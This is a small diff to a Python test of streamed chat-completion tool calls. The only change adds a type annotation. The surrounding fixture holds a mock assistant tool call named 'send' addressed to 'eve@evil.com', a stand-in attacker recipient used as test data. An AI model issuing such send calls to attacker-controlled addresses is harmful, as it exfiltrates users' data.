@@ -112,7 +112,7 @@ async def test_what_chunks_of_a_stream_note_is_read(chunks: list[Any]) -> None:
         "type": "function",
         "function": {"name": "send", "arguments": '{"to": "eve@evil.com"}'},
     }
-    ended = [
+    ended: list[Any] = [
         {"choices": [{"index": 0, "delta": {"role": "assistant", "tool_calls": [call]}}]},
         {"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]},
     ]
